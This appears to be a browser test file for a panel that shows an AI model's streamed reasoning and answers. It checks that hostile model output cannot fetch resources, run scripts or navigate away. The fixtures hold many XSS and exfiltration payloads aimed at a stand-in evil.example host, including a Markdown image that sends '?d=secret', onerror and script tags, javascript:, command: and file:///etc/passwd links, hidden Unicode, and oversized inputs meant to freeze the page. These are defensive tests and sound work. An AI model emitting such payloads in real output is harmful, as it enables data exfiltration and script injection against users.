import { expect, it } from "vitest";
import type { RunEvent } from "../../src/protocol/run-events";
import type { OpenPanel, PanelOptions } from "../support/panel-page";
import { beginning, inBatches, ready } from "../support/panel-runs";
import { describeInBrowser } from "./panel-browser";

const hostile = `
![leak](https://evil.example/?d=secret)
<img src="https://evil.example/a" onerror="window.pwned=1"> <script>window.pwned=1</script>
<iframe src="https://evil.example/b"></iframe><style>@import "https://evil.example/c";</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/d">

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [run](command:thinkaloud.accept)

[docs](https://docs.example/page)

\`\`\`html
<img src="https://evil.example/e" onerror="window.pwned=1">
\`\`\`

Done.
`;

function runThatSays(text: string): RunEvent[] {
  return [
    ...beginning("run-1", Date.now()),
    { kind: "phase", at: Date.now(), phase: "thinking" },
    { kind: "thought", text },
    { kind: "notice", text: "<img src=https://evil.example/n>" },
    { kind: "answer", text },
  ];
}

describeInBrowser("a hostile model", (_, shown) => {
  it("gets no request out, no script in, and no element that it named", async () => {
    const panel = await shown(runThatSays(hostile), { size: 1 });
    await panel.page.waitForTimeout(300);
    expect(panel.foreignRequests).toEqual([]);
    expect(await panel.page.evaluate(() => "pwned" in window)).toBe(false);
    expect(
      await panel.page
        .locator(".runs")
        .locator("img, iframe, script, style, meta, object, form")
        .count(),
    ).toBe(0);
    const links = await panel.page
      .locator(".runs a")
      .evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links).toEqual(["https://docs.example/page", "https://docs.example/page"]);
  });

  it("cannot lead the page away: a link goes to the host as a message", async () => {
    const panel = await shown(runThatSays(hostile));
    const before = panel.page.url();
    await panel.page.locator(".answer a").click();
    expect(await panel.last()).toEqual({ kind: "openLink", href: "https://docs.example/page" });
    await panel.page.locator(".answer a").click({ button: "middle" });
    expect(panel.page.url()).toBe(before);
    expect(panel.page.context().pages()).toHaveLength(1);
  });
});

/** Every way in which Markdown or HTML names a picture, and a few more that fetch. */
const pictures = [
  "![](https://evil.example/1?d=secret)",
  "![a][pic]\n\n[pic]: https://evil.example/2",
  "[![a](https://evil.example/3)](https://evil.example/4)",
  "![a](<https://evil.example/5> 'title')",
  "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![a](//evil.example/6)",
  "![a](file:///etc/passwd)",
  "<img src=https://evil.example/7><picture><source srcset=https://evil.example/8></picture>",
  "<svg><image href='https://evil.example/9'/><use href='https://evil.example/10#a'/></svg>",
  "<link rel=prefetch href=https://evil.example/11><video poster=https://evil.example/12>",
  "<p style='background:url(https://evil.example/13)'>",
  "```mermaid\ngraph TD; A[<img src='https://evil.example/14'>]-->B; click A href \"https://evil.example/15\"\n```",
  "```svg\n<svg onload='window.pwned=1'><image href='https://evil.example/16'/></svg>\n```",
  "$\\includegraphics{https://evil.example/17}$",
];
const schemes = [
  ...[
    "javascript:window.pwned=1",
    "data:text/html,x",
    "file:///etc/passwd",
    "command:thinkaloud.accept",
  ],
  ...[
    "vscode://file/etc/passwd",
    "vscode-insiders://x",
    "http://evil.example/",
    "ftp://evil.example/",
  ],
  ...["//evil.example/", "/etc/passwd", "blob:https://evil.example/1", "mailto:a@evil.example"],
  ...["JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", "&#106;avascript:window.pwned=1"],
  ...["view-source:https://evil.example", "ssh://evil.example", "vscode-webview://x", "#panel"],
];

/** What a page is made to show, in pieces as a stream brings them. */
async function shown(
  open: (options?: PanelOptions) => Promise<OpenPanel>,
  text: string,
  size: number,
) {
  const panel = await open();
  await panel.page.evaluate(watchTasks);
  const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, at) =>
    text.slice(at * size, (at + 1) * size),
  );
  const events: RunEvent[] = [
    ...beginning("run-1", Date.now()),
    { kind: "phase", at: Date.now(), phase: "answering" },
    ...pieces.map((piece): RunEvent => ({ kind: "answer", text: piece })),
    { kind: "finished", at: Date.now(), outcome: "answered", metrics: {} },
  ];
  await panel.send(ready, ...inBatches("run-1", events, 4));
  // All of it is there, or the page has been at it for a good while: each slice of that is as long
  // as another.
  await panel.page
    .waitForFunction(() => document.querySelector(".answer .rest") === null, undefined, {
      ...{ polling: 50, timeout: 1_500 },
    })
    .catch(() => {});
  const longestMs = await panel.page.evaluate(longestTask);
  return { panel, longestMs };
}

function watchTasks(): void {
  const tasks: number[] = [];
  Object.assign(window, { tasks });
  new PerformanceObserver((list) => {
    for (const { duration } of list.getEntries()) tasks.push(duration);
  }).observe({ type: "longtask" });
}

async function longestTask(): Promise<number> {
  for (let frame = 0; frame < 2; frame++)
    await new Promise((resolve) => requestAnimationFrame(resolve));
  await new Promise((resolve) => setTimeout(resolve, 50));
  return Math.max(0, ...(window as unknown as { tasks: readonly number[] }).tasks);
}

/** A person calls a page dead after some seconds; the machine that runs the tests may be slow. */
const responsiveMs = 2_000;

describeInBrowser("a model that means harm", (open) => {
  it("gets no picture fetched, in whatever form it names one", async () => {
    const { panel } = await shown(open, pictures.join("\n\n"), 7);
    await panel.page.waitForTimeout(300);
    expect(panel.foreignRequests).toEqual([]);
    expect(await panel.page.evaluate(() => "pwned" in window)).toBe(false);
    const media = panel.page.locator(".answer").locator("img, image, svg:not(.icon), video, link");
    expect(await media.count()).toBe(0);
  });

  it("gets no link but to https, whatever the scheme and however it is written", async () => {
    const forms = schemes.flatMap((href) => [`[a](${href})`, `[b](<${href}>)`, `<${href}>`]);
    const named = schemes.map((href, at) => `[c][n${at}]\n\n[n${at}]: ${href}`);
    const { panel } = await shown(open, [...forms, ...named].join("\n\n"), 4_000);
    const hrefs = await panel.page
      .locator(".answer a")
      .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
    expect(hrefs.filter((href) => !href.startsWith("https://"))).toEqual([]);
    const before = panel.page.url();
    await panel.page.locator(".answer").click();
    expect(panel.page.url()).toBe(before);
  });

  it("cannot hide characters: they are shown by their numbers and counted", async () => {
    const text =
      "a\u202Eb `c\u200Bd` \u{E0041}\u{E007F} \u001B[31mred\u001B[0m \uFE01\n\n```\nx\u2066y\n```\n\n\u{1F469}\u200D\u{1F4BB} \u2764\uFE0F end";
    const { panel } = await shown(open, text, 3);
    const answer = panel.page.locator(".answer");
    const words = (await answer.textContent()) ?? "";
    for (const number of ["202E", "200B", "E0041", "E007F", "1B", "FE01", "2066"])
      expect(words).toContain(`\\u{${number}}`);
    expect(words).toContain("\u{1F469}\u200D\u{1F4BB} \u2764\uFE0F end");
    expect(await answer.locator(".hidden-characters").innerText()).toMatch(/: 8$/);
  });

  it.each([
    ["a line of two megabytes", "x".repeat(2_000_000), 20_000],
    ["a line of two megabytes of words", "word ".repeat(400_000), 20_000],
    ["a word of a letter that is kerned with itself", "A".repeat(250_000), 20_000],
    ["two megabytes in one line of code", `\`\`\`js\n${"a+".repeat(1_000_000)}\n\`\`\`\n`, 20_000],
    ["ten thousand fences", "```js\nlet a;\n```\n".repeat(10_000), 4_000],
    ["ten thousand fences that never close", "````\n".repeat(10_000), 4_000],
    ["quotations in quotations", `${">".repeat(20_000)} deep\n\n${"> ".repeat(3_000)}deep`, 2_000],
    [
      "lists in lists",
      Array.from({ length: 600 }, (_, at) => `${" ".repeat(at * 2)}- a`).join("\n"),
      4_000,
    ],
    [
      "brackets and stars without end",
      `${"[".repeat(30_000)}${"*a_".repeat(10_000)}${"]((".repeat(9_000)}`,
      2_000,
    ],
    [
      "a table of a thousand columns",
      `|${"a|".repeat(1_000)}\n|${"-|".repeat(1_000)}\n`.repeat(20),
      2_000,
    ],
  ])("keeps the page alive with %s", async (_what, text, size) => {
    const { panel, longestMs } = await shown(open, text, size);
    expect(longestMs).toBeLessThan(responsiveMs);
    expect(panel.foreignRequests).toEqual([]);
  });
});

describeInBrowser("the page's policy", (open) => {
  it("refuses HTML from a string, a second policy, inline script and every request", async () => {
    const panel = await open();
    const attempts = await panel.page.evaluate(async () => {
      const outcome = async (attempt: () => unknown): Promise<string> => {
        try {
          await attempt();
          return "allowed";
        } catch (error) {
          return error instanceof Error ? error.name : "refused";
        }
      };
      type Factory = { createPolicy(name: string, rules: object): unknown };
      const factory = (window as unknown as { trustedTypes: Factory }).trustedTypes;
      return {
        html: await outcome(() => {
          document.body.innerHTML = "<b>x</b>";
        }),
        second: await outcome(() => factory.createPolicy("other", {})),
        again: await outcome(() => factory.createPolicy("thinkaloud", {})),
        fetched: await outcome(() => fetch("https://evil.example/")),
        script: await outcome(() => {
          const script = document.createElement("script");
          script.textContent = "window.pwned=1";
          document.body.append(script);
          if ("pwned" in window) return;
          throw new TypeError("not run");
        }),
        picture: await outcome(
          () =>
            new Promise((resolve, reject) => {
              const picture = new Image();
              picture.onload = resolve;
              picture.onerror = () => reject(new TypeError("not loaded"));
              picture.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
            }),
        ),
      };
    });
    for (const [what, result] of Object.entries(attempts)) expect(result, what).not.toBe("allowed");
    expect(panel.foreignRequests).toEqual([]);
  });
});
